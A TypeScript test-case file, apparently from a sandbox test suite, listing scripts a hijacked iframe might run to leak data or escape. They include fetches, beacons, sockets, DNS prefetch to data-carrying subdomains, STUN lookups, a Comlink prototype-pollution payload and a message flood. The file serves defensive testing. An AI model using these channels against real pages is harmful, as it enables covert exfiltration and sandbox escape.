import type { FrameCase } from '../case.ts';
import { thingScripts } from './frame-things.ts';

const link = (rel: string, extra = ''): string =>
  `const l = document.createElement('link'); l.rel = '${rel}'; l.href = U.http + '/${rel}'; ${extra} document.head.append(l);`;

/** Links to a name that carries what the attacker wants to know. */
const named = (rel: string): string =>
  `const l = document.createElement('link'); l.rel = '${rel}'; l.href = 'http://${rel}.' + U.name; document.head.append(l);`;

/** Scripts of a frame whose own code was taken over. */
const SCRIPTS: Record<string, string> = {
  'navigates itself': 'location.href = U.http + "/navigated";',
  'navigates itself by replace': 'location.replace(U.http + "/replaced");',
  'navigates by a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + U.http + '/refreshed'; document.head.append(m);`,
  'navigates by a link': `const a = document.createElement('a'); a.href = U.http + '/clicked'; document.documentElement.append(a); a.click();`,
  'navigates the page': 'try { top.location = U.http + "/top"; } catch {}',
  'opens a window': 'window.open(U.http + "/window");',
  'submits a form': `const f = document.createElement('form'); f.action = U.http + '/form'; document.documentElement.append(f); f.submit();`,
  fetches: 'fetch(U.http + "/fetch", { mode: "no-cors" }).catch(() => {});',
  'sends a beacon': 'navigator.sendBeacon(U.http + "/beacon", "x");',
  'opens a socket': 'new WebSocket(U.ws);',
  'loads an image': 'new Image().src = U.http + "/image";',
  'loads a style': link('stylesheet'),
  'loads a script': `const s = document.createElement('script'); s.src = U.http + '/script'; document.head.append(s);`,
  'loads a font by an inline style': `const s = document.createElement('style'); s.textContent = '@import "' + U.http + '/style";'; document.head.append(s);`,
  'frames a page': `const f = document.createElement('iframe'); f.src = U.http + '/frame'; document.documentElement.append(f);`,
  'looks a name up ahead': named('dns-prefetch'),
  'connects ahead to a name': named('preconnect'),
  'fetches from a name': 'fetch("http://fetched." + U.name, { mode: "no-cors" }).catch(() => {});',
  'loads an image from a name': 'new Image().src = "http://loaded." + U.name;',
  'navigates to a name': 'location.href = "http://navigated." + U.name;',
  'asks a STUN server by its name': `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:asked.' + U.name }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));`,
  'connects ahead': link('preconnect'),
  prefetches: link('prefetch'),
  preloads: link('preload', 'l.as = "script";'),
  'preloads a module': link('modulepreload'),
  'asks a STUN server': `const c = new RTCPeerConnection({ iceServers: [{ urls: U.stun }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));`,
  'starts a worker that fetches': `new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(U.http + '/from-worker') + ')'])));`,
  'changes the page': 'parent.document.title = "taken"; parent.postMessage({ got: "the page’s title" }, "*");',
  'calls the page': 'parent.suite("engine.close", 1); parent.postMessage({ got: "the page’s functions" }, "*");',
  'speaks Comlink to the page': `
    const set = { id: '1', type: 'SET', path: ['__proto__', 'polluted'], value: { type: 'RAW', value: 1 } };
    const make = { id: '2', type: 'CONSTRUCT', path: ['Function'], argumentList: [{ type: 'RAW', value: 'polluted = 1' }] };
    for (const m of [set, make, JSON.stringify(set)]) parent.postMessage(m, '*');
    onmessage = (e) => { const p = e.ports[0]; if (p) { p.postMessage([1]); for (const m of [set, make, [2, '__proto__'], null, [3, {}, 'x']]) p.postMessage(m); } };`,
  ...thingScripts,
  'floods the page': `onmessage = (e) => { const p = e.ports[0]; if (p) for (let i = 0; i < 50000; i++) p.postMessage([2, i]); };`,
};

/** Firefox knows no Connection-Allowlist, and a content security policy has no word for look-ups and connections that carry nothing. */
const OPEN: Record<string, FrameCase['openIn']> = {
  'connects ahead': ['firefox'],
  'connects ahead to a name': ['firefox'],
  'looks a name up ahead': ['firefox'],
  'asks a STUN server by its name': ['firefox'],
};

export const frameCases: FrameCase[] = Object.entries(SCRIPTS).map(([name, script]) => {
  const openIn = OPEN[name];
  return { name, family: 'frame', script, ...(openIn === undefined ? {} : { openIn }) };
});
